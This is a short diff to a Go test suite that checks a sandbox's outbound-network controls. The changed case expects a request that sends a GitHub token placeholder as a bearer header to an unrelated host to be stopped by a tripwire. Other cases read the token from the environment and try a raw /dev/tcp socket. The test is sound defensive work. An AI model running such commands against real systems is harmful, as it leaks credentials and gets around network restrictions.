@@ -219,7 +219,7 @@ func TestLinuxEgress(t *testing.T) {
 		{"bound secret reaches its host only as a header", "curl -sS --max-time 20 https://secret.test" + tp + "/auth", "authorized\n"},
 		{"python trusts the session CA through the environment", `python3 -c "import urllib.request as u; print(u.urlopen('https://secret.test` + tp + `/auth').read().decode(), end='')"`, "authorized\n"},
 		{"bound secret is a placeholder inside", "printenv GH_TOKEN | grep -c " + boundCanary + "; printenv GH_TOKEN", "0\nsandgate-"},
-		{"placeholder stripped on plain http", curl + `-H "Authorization: Bearer $GH_TOKEN" http://pypi.test` + hp + "/echo-auth", "auth=\"\"\n"},
+		{"a placeholder to another host trips the tripwire", curl + `-H "Authorization: Bearer $GH_TOKEN" http://pypi.test` + hp + "/echo-auth", "denied: tripwire: the placeholder of secret GH_TOKEN"},
 		{"no raw sockets out", "bash -c 'echo > /dev/tcp/127.0.0.1/" + httpPort + "' 2>/dev/null && echo open || echo closed", "closed\n"},
 	}
 	for _, c := range cases {
